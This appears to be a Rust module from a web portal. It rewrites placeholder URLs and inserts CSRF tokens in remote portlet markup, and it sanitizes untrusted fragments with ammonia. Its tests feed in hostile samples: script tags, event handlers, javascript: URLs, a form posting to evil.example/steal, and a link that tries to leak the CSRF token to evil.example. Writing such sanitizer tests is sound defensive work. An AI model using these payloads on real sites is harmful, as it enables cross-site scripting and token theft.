//! Remote markup made fit for the consumer's page.
//!
//! Three things happen to every fragment a producer sends:
//!
//! 1. **URLs**: placeholders (`cartable-remote:/action/{tab}/{window}?p.x=1`, see
//!    [`URL_BASE`]) become this window's portal URLs from `ctx.urls()`, keeping only
//!    `mode`, `state` and `p.*` parameters;
//! 2. **CSRF**: the [`CSRF_PLACEHOLDER`] becomes the reader's token;
//! 3. **sanitizing**, unless the producer is trusted: [`ammonia`] keeps formatting, links,
//!    images, tables and forms (inputs, buttons, selects, text areas, labels) with safe
//!    attributes, and drops scripts, styles, frames, event handlers and `javascript:` URLs.
//!    A form action or a relative URL that is not one of this window's portal URLs is
//!    dropped, element ids are moved into the window's namespace, and the CSRF token is
//!    only put into form field values (so a hostile fragment cannot leak it in a link).

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::Arc;

use ammonia::{UrlRelative, UrlRelativeEvaluate};
use cartable_portlet::markup::escape;
use cartable_portlet::{Mode, PortletContext, PortletUrls, WindowState};

use crate::protocol::{CSRF_PLACEHOLDER, URL_BASE};

/// What a fragment is rewritten for: one window, one reader.
#[derive(Debug, Clone)]
pub struct Rewriter {
    urls: PortletUrls,
    csrf: String,
    namespace: String,
}

impl Rewriter {
    /// For this window's URLs, the reader's CSRF token and the window's namespace
    /// (`w-<window>`).
    pub fn new(urls: PortletUrls, csrf: &str, namespace: &str) -> Self {
        Rewriter {
            urls,
            csrf: csrf.to_string(),
            namespace: namespace.to_string(),
        }
    }

    /// For the window and reader of a portlet call.
    pub fn for_context(ctx: &PortletContext) -> Self {
        Rewriter::new(
            ctx.urls().clone(),
            ctx.csrf_token(),
            &ctx.window().namespace(),
        )
    }

    /// A fragment from a trusted producer: URLs and token put in, nothing removed.
    pub fn trusted(&self, html: &str) -> String {
        let rewritten = rewrite_placeholders(html, &self.urls);
        rewritten.replace(CSRF_PLACEHOLDER, &escape(&self.csrf))
    }

    /// A fragment from an untrusted producer: sanitized, URLs and token put in.
    pub fn sanitized(&self, html: &str) -> String {
        let this = Arc::new(self.clone());
        let for_relative = this.clone();
        let mut builder = ammonia::Builder::default();
        builder
            .add_tags(FORM_TAGS)
            .add_clean_content_tags(DROPPED_WITH_CONTENT)
            .add_generic_attributes(["id", "class", "role", "dir"])
            .generic_attribute_prefixes(HashSet::from(["aria-"]))
            .add_url_schemes([crate::protocol::URL_SCHEME])
            .url_relative(UrlRelative::Custom(Box::new(RelativeUrls(for_relative))))
            .attribute_filter(move |element, attribute, value| {
                this.attribute(element, attribute, value)
            });
        for (tag, attributes) in FORM_ATTRIBUTES {
            builder.add_tag_attributes(tag, attributes.iter());
        }
        let clean = builder.clean(html).to_string();
        // Whatever placeholder is left is outside a form field: remove it.
        clean.replace(CSRF_PLACEHOLDER, "")
    }

    /// The sanitizer's decision on one attribute that survived its allow-lists.
    fn attribute<'v>(
        &self,
        element: &str,
        attribute: &str,
        value: &'v str,
    ) -> Option<Cow<'v, str>> {
        match attribute {
            "href" | "src" | "action" | "formaction" | "cite" | "poster" | "data" => {
                if value.trim_start().starts_with(URL_BASE) {
                    return rewrite_url(value.trim(), &self.urls).map(Cow::Owned);
                }
                if matches!(attribute, "action" | "formaction") {
                    // A form posts to this window through the portal, or nowhere.
                    return None;
                }
                Some(Cow::Borrowed(value))
            }
            "method" => {
                let m = value.trim().to_ascii_lowercase();
                matches!(m.as_str(), "get" | "post").then_some(Cow::Owned(m))
            }
            "value" if element == "input" && value.contains(CSRF_PLACEHOLDER) => {
                Some(Cow::Owned(value.replace(CSRF_PLACEHOLDER, &self.csrf)))
            }
            "id"
            | "for"
            | "headers"
            | "list"
            | "form"
            | "aria-labelledby"
            | "aria-describedby"
            | "aria-controls"
            | "aria-owns"
            | "aria-activedescendant" => Some(Cow::Owned(self.namespaced(value))),
            _ if value.contains(CSRF_PLACEHOLDER) => {
                Some(Cow::Owned(value.replace(CSRF_PLACEHOLDER, "")))
            }
            _ => Some(Cow::Borrowed(value)),
        }
    }

    /// A relative URL in a sanitized fragment: one of this window's portal URLs, a
    /// fragment link moved into the namespace, or nothing.
    fn relative(&self, url: &str) -> Option<String> {
        if let Some(fragment) = url.strip_prefix('#') {
            return Some(format!("#{}", self.namespaced(fragment)));
        }
        let resource = self.urls.resource("x").to_string();
        let resource_prefix = resource.strip_suffix('x').unwrap_or(&resource);
        let exact = [
            self.urls.page(),
            self.urls.render().to_string(),
            self.urls.action().to_string(),
            self.urls.preferences(),
        ];
        let is_window_url = exact.iter().any(|p| {
            url == p || url.starts_with(&format!("{p}?")) || url.starts_with(&format!("{p}#"))
        }) || url.starts_with(resource_prefix);
        is_window_url.then(|| url.to_string())
    }

    /// Element-id references (space-separated) moved into the window's namespace.
    fn namespaced(&self, value: &str) -> String {
        let prefix = format!("{}-", self.namespace);
        value
            .split_ascii_whitespace()
            .map(|token| {
                if token.starts_with(&prefix) {
                    token.to_string()
                } else {
                    format!("{prefix}{token}")
                }
            })
            .collect::<Vec<_>>()
            .join(" ")
    }
}

/// The sanitizer's hook for relative URLs.
struct RelativeUrls(Arc<Rewriter>);

impl<'a> UrlRelativeEvaluate<'a> for RelativeUrls {
    fn evaluate<'url>(&self, url: &'url str) -> Option<Cow<'url, str>> {
        self.0.relative(url).map(Cow::Owned)
    }
}

/// Form elements kept in sanitized markup (remote portlets post through the portal).
const FORM_TAGS: [&str; 10] = [
    "form", "input", "button", "select", "option", "optgroup", "textarea", "label", "fieldset",
    "legend",
];

/// Elements removed with everything inside them.
const DROPPED_WITH_CONTENT: [&str; 8] = [
    "iframe", "object", "embed", "noscript", "template", "frameset", "noembed", "noframes",
];

/// The attributes each form element keeps (URLs among them are rewritten or dropped).
const FORM_ATTRIBUTES: [(&str, &[&str]); 10] = [
    (
        "form",
        &[
            "action",
            "method",
            "enctype",
            "accept-charset",
            "name",
            "autocomplete",
        ],
    ),
    (
        "input",
        &[
            "type",
            "name",
            "value",
            "checked",
            "disabled",
            "readonly",
            "required",
            "placeholder",
            "maxlength",
            "minlength",
            "min",
            "max",
            "step",
            "size",
            "pattern",
            "autocomplete",
            "multiple",
            "accept",
            "formaction",
            "inputmode",
            "list",
            "form",
        ],
    ),
    (
        "button",
        &["type", "name", "value", "disabled", "formaction", "form"],
    ),
    (
        "select",
        &[
            "name",
            "multiple",
            "disabled",
            "required",
            "size",
            "form",
            "autocomplete",
        ],
    ),
    ("option", &["value", "selected", "disabled", "label"]),
    ("optgroup", &["label", "disabled"]),
    (
        "textarea",
        &[
            "name",
            "rows",
            "cols",
            "maxlength",
            "minlength",
            "placeholder",
            "disabled",
            "readonly",
            "required",
            "wrap",
            "form",
        ],
    ),
    ("label", &["for", "form"]),
    ("fieldset", &["disabled", "name", "form"]),
    ("legend", &[]),
];

/// The portal URL of one placeholder URL, or `None` if it is not a valid placeholder.
///
/// `cartable-remote:/page/{tab}` → the page; `/page/{tab}/{window}?…` → a render URL;
/// `/action/{tab}/{window}?…` → the action URL; `/resource/{tab}/{window}/{id}?…` → a
/// resource URL; `/prefs/{tab}/{window}` → the preference form's URL. The producer's tab
/// and window are ignored: the URL is always this window's.
pub fn rewrite_url(placeholder: &str, urls: &PortletUrls) -> Option<String> {
    let rest = placeholder.strip_prefix(URL_BASE)?;
    let (rest, fragment) = match rest.split_once('#') {
        Some((r, f)) => (r, Some(f)),
        None => (rest, None),
    };
    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
    let segments: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    let builder = match segments.as_slice() {
        ["page", _tab] => return Some(with_fragment(urls.page(), fragment)),
        ["prefs", _tab, _window] => return Some(with_fragment(urls.preferences(), fragment)),
        ["page", _tab, _window] => urls.render(),
        ["action", _tab, _window] => urls.action(),
        ["resource", _tab, _window, id] if !id.is_empty() => {
            let id = percent_encoding::percent_decode_str(id)
                .decode_utf8()
                .ok()?;
            urls.resource(&id)
        }
        _ => return None,
    };
    let mut builder = builder;
    for (name, value) in form_urlencoded::parse(query.as_bytes()) {
        match name.as_ref() {
            "mode" => {
                if let Ok(m) = value.parse::<Mode>() {
                    builder = builder.mode(m);
                }
            }
            "state" => {
                if let Ok(s) = value.parse::<WindowState>() {
                    builder = builder.state(s);
                }
            }
            other => {
                if let Some(param) = other.strip_prefix("p.").filter(|p| !p.is_empty()) {
                    builder = builder.param(param, value.as_ref());
                }
            }
        }
    }
    Some(with_fragment(builder.to_string(), fragment))
}

fn with_fragment(url: String, fragment: Option<&str>) -> String {
    match fragment {
        Some(f)
            if !f.is_empty()
                && f.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') =>
        {
            format!("{url}#{f}")
        }
        _ => url,
    }
}

/// Rewrite every placeholder URL in attribute values of trusted markup, without parsing
/// the HTML: a placeholder is recognised after `="`, `='` or `=`.
fn rewrite_placeholders(html: &str, urls: &PortletUrls) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(at) = rest.find(URL_BASE) {
        let (before, from) = rest.split_at(at);
        out.push_str(before);
        let quote = before
            .chars()
            .next_back()
            .filter(|c| *c == '"' || *c == '\'');
        let end = match quote {
            Some(q) => from.find(q),
            None if before.ends_with('=') => Some(
                from.find(|c: char| c.is_ascii_whitespace() || c == '>')
                    .unwrap_or(from.len()),
            ),
            None => None,
        };
        match end {
            Some(end) => {
                let (raw, after) = from.split_at(end);
                match rewrite_url(&unescape_attribute(raw), urls) {
                    Some(url) => out.push_str(&escape(&url)),
                    None => out.push_str(raw),
                }
                rest = after;
            }
            None => {
                // Not an attribute value we can delimit: leave it and go on.
                out.push_str(URL_BASE);
                rest = &from[URL_BASE.len()..];
            }
        }
    }
    out.push_str(rest);
    out
}

fn unescape_attribute(raw: &str) -> String {
    raw.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rw() -> Rewriter {
        Rewriter::new(
            PortletUrls::new("/ent", "accueil", "meteo"),
            "TOKEN-1",
            "w-meteo",
        )
    }

    #[test]
    fn placeholders_become_this_windows_urls() {
        let urls = PortletUrls::new("/ent", "accueil", "meteo");
        let r = |s: &str| rewrite_url(s, &urls);
        assert_eq!(
            r("cartable-remote:/page/t"),
            Some("/ent/page/accueil".into())
        );
        assert_eq!(
            r("cartable-remote:/page/t/w?mode=edit&p.q=a+b&evil=1#w-meteo-x"),
            Some("/ent/page/accueil/meteo?mode=edit&p.q=a+b#w-meteo-x".into())
        );
        assert_eq!(
            r("cartable-remote:/action/t/w?p.id=3"),
            Some("/ent/action/accueil/meteo?p.id=3".into())
        );
        assert_eq!(
            r("cartable-remote:/resource/t/w/export%20json?p.k=v"),
            Some("/ent/resource/accueil/meteo/export%20json?p.k=v".into())
        );
        assert_eq!(
            r("cartable-remote:/prefs/t/w"),
            Some("/ent/prefs/accueil/meteo".into())
        );
        assert_eq!(r("cartable-remote:/admin/t/w"), None);
        assert_eq!(
            r("cartable-remote:/page/t/w?mode=root"),
            Some("/ent/page/accueil/meteo".into())
        );
        assert_eq!(
            r("cartable-remote:/page/t/w#\"><script>"),
            Some("/ent/page/accueil/meteo".into())
        );
        assert_eq!(r("https://example.org/"), None);
    }

    #[test]
    fn trusted_markup_gets_urls_and_token_and_nothing_else_changes() {
        let html = r#"<form method="post" action="cartable-remote:/action/t/w?p.a=1&amp;p.b=2"><input type="hidden" name="_csrf" value="cartable-remote-csrf-placeholder"><a href='cartable-remote:/page/t/w?mode=help'>aide</a> <a href=cartable-remote:/page/t>x</a> cartable-remote: in text <b style="color:red">ok</b></form>"#;
        let out = rw().trusted(html);
        assert_eq!(
            out,
            r#"<form method="post" action="/ent/action/accueil/meteo?p.a=1&amp;p.b=2"><input type="hidden" name="_csrf" value="TOKEN-1"><a href='/ent/page/accueil/meteo?mode=help'>aide</a> <a href=/ent/page/accueil>x</a> cartable-remote: in text <b style="color:red">ok</b></form>"#
        );
    }

    #[test]
    fn hostile_markup_loses_scripts_handlers_and_foreign_targets() {
        let html = r#"<script>alert(1)</script><p onclick="steal()" style="background:url(javascript:alert(1))">Hi<img src="x.png" onerror="alert(2)"></p>
<a href="javascript:alert(3)">j</a><a href="JaVaScRiPt:alert(4)">k</a><iframe src="https://evil.example/">frame text</iframe>
<form action="https://evil.example/steal" method="post"><input name="q" value="cartable-remote-csrf-placeholder"></form>
<a href="https://evil.example/?t=cartable-remote-csrf-placeholder">leak</a><a href="/admin">admin</a>
<svg><script>alert(5)</script></svg><object data="x.swf"></object><style>p{}</style>"#;
        let out = rw().sanitized(html);
        for bad in [
            "<script",
            "onclick",
            "onerror",
            "style",
            "javascript",
            "iframe",
            "evil.example/steal",
            "frame text",
            "/admin",
            "<object",
            "alert",
        ] {
            assert!(
                !out.to_ascii_lowercase().contains(&bad.to_ascii_lowercase()),
                "{bad} in {out}"
            );
        }
        assert!(out.contains("<p>Hi<img"), "{out}");
        assert!(
            out.contains(
                r#"<a href="https://evil.example/?t=" rel="noopener noreferrer">leak</a>"#
            ),
            "{out}"
        );
        assert!(
            out.contains(r#"<form method="post"><input name="q" value="TOKEN-1">"#),
            "the token only goes into form fields: {out}"
        );
        assert_eq!(out.matches("TOKEN-1").count(), 1, "{out}");
    }

    #[test]
    fn sanitized_forms_post_through_the_portal_with_the_token() {
        let html = r##"<form method="POST" action="cartable-remote:/action/t/w?p.x=1"><input type="hidden" name="_csrf" value="cartable-remote-csrf-placeholder"><label for="w-meteo-q">Ville</label><input id="w-meteo-q" name="q" type="text" required><select name="s"><option value="a" selected>A</option></select><textarea name="t" rows="2"></textarea><button type="submit">OK</button></form><a href="cartable-remote:/resource/t/w/csv">csv</a><a href="#top">haut</a><label for="other">x</label>"##;
        let out = rw().sanitized(html);
        assert!(
            out.contains(r#"<form method="post" action="/ent/action/accueil/meteo?p.x=1">"#),
            "{out}"
        );
        assert!(out.contains(r#"value="TOKEN-1""#), "{out}");
        assert!(
            out.contains(r#"<label for="w-meteo-q">"#) && out.contains(r#"id="w-meteo-q""#),
            "{out}"
        );
        assert!(
            out.contains("<select") && out.contains("<textarea") && out.contains("<button"),
            "{out}"
        );
        assert!(
            out.contains(r#"href="/ent/resource/accueil/meteo/csv""#),
            "{out}"
        );
        assert!(out.contains(r##"href="#w-meteo-top""##), "{out}");
        assert!(
            out.contains(r#"for="w-meteo-other""#),
            "ids moved into the namespace: {out}"
        );
    }
}
